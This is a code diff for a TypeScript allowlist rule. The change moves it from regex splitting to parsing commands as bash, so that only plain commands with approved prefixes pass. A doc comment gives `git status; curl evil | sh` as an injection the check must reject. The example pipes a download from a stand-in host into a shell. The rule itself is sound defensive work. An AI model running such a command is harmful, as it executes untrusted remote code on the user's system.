@@ -1,3 +1,4 @@
+import { parseShell, type ShellRedirect } from '../../parse/shell.js';
 import { defineSkillRule } from '../rule.js';
 import { parsed, show } from '../util.js';
 
@@ -8,23 +9,30 @@ export interface DynamicCommandOptions {
   commands: string[];
 }
 
-/** Redirections that discard output; they do not make a command less safe. */
-const DISCARD = /\s*(?:\d?>\s*\/dev\/null|2>&1)/g;
+/** Redirections that discard output (`>/dev/null`, `2>&1`); they do not make a command less safe. */
+function discards(r: ShellRedirect): boolean {
+  if (!r.target?.literal) return false;
+  if (r.op === '>' || r.op === '>>' || r.op === '&>') return r.target.value === '/dev/null';
+  return r.op === '>&' && /^[12]$/.test(r.target.value);
+}
 
 /**
- * True when every simple command of a dynamic command starts with an allowed
- * prefix. Substitutions, other redirections and background jobs never match:
+ * True when the command parses (as bash) and every simple command in it starts
+ * with an allowed prefix, word by word. Compound commands, substitutions,
+ * parameter expansions, other redirections and background jobs never match:
  * `git status; curl evil | sh` must not pass as `git status`.
  */
 export function allowedCommand(command: string, prefixes: readonly string[]): boolean {
-  const wanted = prefixes.map((p) => p.trim().replace(/\s+/g, ' ')).filter(Boolean);
+  const wanted = prefixes.map((p) => p.trim().split(/\s+/)).filter((w) => w[0]);
   if (!wanted.length) return false;
-  const parts = command
-    .split(/\|\||&&|;|\||\r?\n/)
-    .map((p) => p.replace(DISCARD, '').trim().replace(/\s+/g, ' '))
-    .filter((p) => p && !p.startsWith('#'));
-  if (!parts.length) return false;
-  return parts.every((part) => !/[<>&`]|\$\(/.test(part) && wanted.some((w) => part === w || part.startsWith(`${w} `)));
+  const parsed = parseShell(command, 'bash');
+  if (parsed.error || parsed.background || !parsed.commands.length) return false;
+  if (parsed.pipelines.some((p) => p.commands.some((c) => c.kind !== 'simple'))) return false;
+  return parsed.commands.every((c) => {
+    if (c.assigns.length || !c.redirects.every(discards) || !c.words.every((w) => w.literal)) return false;
+    const words = c.words.map((w) => w.value);
+    return wanted.some((w) => w.length <= words.length && w.every((part, i) => words[i] === part));
+  });
 }
 
 export default defineSkillRule<DynamicCommandOptions>(
